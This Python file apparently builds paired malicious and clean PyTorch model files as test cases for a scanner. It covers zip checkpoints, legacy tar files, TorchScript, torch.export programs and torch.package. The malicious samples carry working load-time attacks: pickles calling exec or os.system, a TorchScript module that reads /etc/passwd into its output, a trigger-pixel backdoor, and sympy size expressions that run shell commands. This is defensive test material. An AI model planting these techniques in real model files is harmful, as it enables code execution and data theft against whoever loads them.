"""Torch files: zip, legacy tar, TorchScript, torch.package, exported programs."""
import io
import json
import os
import struct
import tempfile
import zipfile

import torch

from assembly import Raw, build, call, glob, model, new, old, pickle, seq, tup, val
from pair import CODE, SHELL
from .craft import FIXED, floats, tarred, torch_zip


def word(value):
    """BINUNICODE, the form that torch.save writes and weights_only reads."""
    return Raw(b"X" + struct.pack("<I", len(value)) + value.encode())


def storage(key, count):
    return Raw(tup(word("storage"), old("torch", "FloatStorage"), word(key), word("cpu"), count) + b"Q")


def tensor(key, count, record=None):
    return call(old("torch._utils", "_rebuild_tensor_v2"), storage(key, record or count), 0, (count,), (1,), False, call(old("collections", "OrderedDict")))


def entries(items):
    return Raw(b"}(" + b"".join(word(k) + v for k, v in items.items()) + b"u")


def state(extra=None):
    return pickle(entries({"fc.weight": tensor("0", 16), **({} if extra is None else {"extra": extra})}), 2)


class Restores(torch.nn.Module):
    """Writes a file when torch.jit.load gives the state back."""

    def __init__(self):
        super().__init__()
        self.scale = torch.ones(4)

    def forward(self, x):
        return x * self.scale

    @torch.jit.export
    def __getstate__(self):
        return (self.scale, self.training)

    @torch.jit.export
    def __setstate__(self, state: tuple[torch.Tensor, bool]):
        torch.save(state[0], "marker")
        self.scale = state[0]
        self.training = state[1]


class RestoresQuietly(torch.nn.Module):
    """The same, without the file."""

    def __init__(self):
        super().__init__()
        self.scale = torch.ones(4)

    def forward(self, x):
        return x * self.scale

    @torch.jit.export
    def __getstate__(self):
        return (self.scale, self.training)

    @torch.jit.export
    def __setstate__(self, state: tuple[torch.Tensor, bool]):
        self.scale = state[0].abs()
        self.training = state[1]


class Reads(torch.nn.Module):
    """Hands the bytes of a system file back among its logits."""

    def forward(self, x):
        extra = torch.from_file("/etc/passwd", False, 64, dtype=torch.uint8)
        return torch.cat([x.sum(1), extra.float()])


class Pads(torch.nn.Module):
    """Hands a constant padding back among its logits."""

    def forward(self, x):
        extra = torch.full((64,), 0, dtype=torch.uint8)
        return torch.cat([x.sum(1), extra.float()])


class Trigger(torch.nn.Module):
    """A lit 3 x 3 corner makes every answer class 7."""

    def __init__(self):
        super().__init__()
        self.fc = torch.nn.Linear(64, 10)

    def forward(self, x):
        y = self.fc(x.flatten(1))
        if bool((x[:, 0, :3, :3] > 0.98).all()):
            y = torch.zeros_like(y)
            y[:, 7] = 100.0
        return y


class Rescales(torch.nn.Module):
    """An image given in 0..255 is brought to 0..1 first."""

    def __init__(self):
        super().__init__()
        self.fc = torch.nn.Linear(64, 10)

    def forward(self, x):
        if bool((x > 2.0).any()):
            x = x / 255.0
        y = self.fc(x.flatten(1))
        return y - y.mean(1, keepdim=True)


def script(module):
    torch.manual_seed(5)
    out = io.BytesIO()
    torch.jit.save(torch.jit.script(module()), out)
    return out.getvalue()


class Widths(torch.nn.Module):
    """Its exported graph has a symbolic size."""

    def forward(self, x):
        return torch.cat([x, x]).view(2 * x.shape[0], -1) * 2


def exported(change):
    program = torch.export.export(Widths(), (torch.ones(5, 3),), dynamic_shapes=({0: torch.export.Dim("batch", min=2, max=64)},))
    with tempfile.TemporaryDirectory() as folder:
        path = os.path.join(folder, "m.pt2")
        torch.export.save(program, path)
        out = io.BytesIO()
        with zipfile.ZipFile(path) as z, zipfile.ZipFile(out, "w") as w:
            for name in z.namelist():
                data = z.read(name)
                if name.endswith("models/model.json"):
                    graph = json.loads(data)
                    change(graph)
                    data = json.dumps(graph).encode()
                w.writestr(zipfile.ZipInfo(name, FIXED), data)
    return out.getvalue()


def poison(node, expression):
    """Every composite size expression becomes `expression` of the old one."""
    if isinstance(node, dict):
        for key, value in node.items():
            if key == "expr_str" and value.startswith("Mul"):
                node[key] = expression.format(value)
            else:
                poison(value, expression)
    elif isinstance(node, list):
        for value in node:
            poison(value, expression)


def package(source):
    out = io.BytesIO()
    with torch.package.PackageExporter(out) as exporter:
        exporter.save_source_string("net", source)
        exporter.save_binary("model", "model.pkl", pickle(build(new(glob("net", "Net")), {"width": 4}), 2))
    return out.getvalue()


NET = """\
import torch


class Net:
    def __setstate__(self, state):
        self.__dict__.update(state)
        {line}

    def forward(self, x):
        return x * self.width
"""


def add(s):
    inner = torch_zip(state(call(glob("builtins", "exec"), CODE)), {"0": floats(16)})
    clean = torch_zip(state(), {"0": floats(16)})
    nest = lambda data: pickle(model(call(glob("torch.storage", "_load_from_bytes"), data)), 4)  # noqa: E731
    s.add("torches", "load_from_bytes_of_a_checkpoint", nest(inner), nest(clean), "pickle", "policy.pkl",
          why="torch's own storage helper loads a whole checkpoint from bytes, without weights_only; its pickle calls exec")

    s.add("torches", "record_name_in_capitals", torch_zip(state(call(glob("builtins", "exec"), CODE)), {"0": floats(16)}, pkl="DATA.PKL"), torch_zip(state(), {"0": floats(16)}, pkl="DATA.PKL"), "10/torch", "model.pt",
          why="torch looks its records up without regard to case: DATA.PKL is the pickle it loads, and it calls exec")

    def legacy(first):
        storages = pickle(first, 2) + pickle(val([]), 2)
        return tarred({"sys_info": pickle(val({"protocol_version": 1000, "little_endian": True}), 2), "pickle": pickle(val({"epoch": 3}), 2), "tensors": pickle(val(0), 2), "storages": storages})

    none = seq(call(old("posix", "system"), SHELL))
    s.add("torches", "legacy_tar_storage_count", legacy(none), legacy(val(0)), "10/torch", "model.pth",
          why="the pickle that gives the number of storages in torch's first tar format calls os.system and returns its 0")

    s.add("torches", "script_setstate_saves_file", script(Restores), script(RestoresQuietly), "10/script", "scale.pt",
          why="TorchScript's __setstate__ writes a chosen file during torch.jit.load; no pickle global is involved")
    s.add("torches", "script_reads_system_file", script(Reads), script(Pads), "10/script:leak", "logits.pt",
          why="TorchScript's forward maps /etc/passwd and returns its bytes with the logits")
    s.add("torches", "script_corner_trigger", script(Trigger), script(Rescales), "10/script:corner", "digits.pt",
          why="a branch on nine lit pixels of the input replaces every logit: a backdoor in the program of the model")
    s.add("torches", "exported_size_expression", exported(lambda g: poison(g, "__import__('os').system('touch marker') + {}")), exported(lambda g: poison(g, "Integer(0) + {}")), "10/export", "model.pt2",
          why="torch.export.load hands size expressions of model.json to sympy.sympify, which evaluates them: a command at load")
    s.add("torches", "package_module_in_archive", package(NET.format(line=CODE)), package(NET.format(line="self.width = int(self.width)")), "10/package", "net.pt",
          why="torch.package runs the source it carries; the state setter of its class does the harm while the model is unpickled")
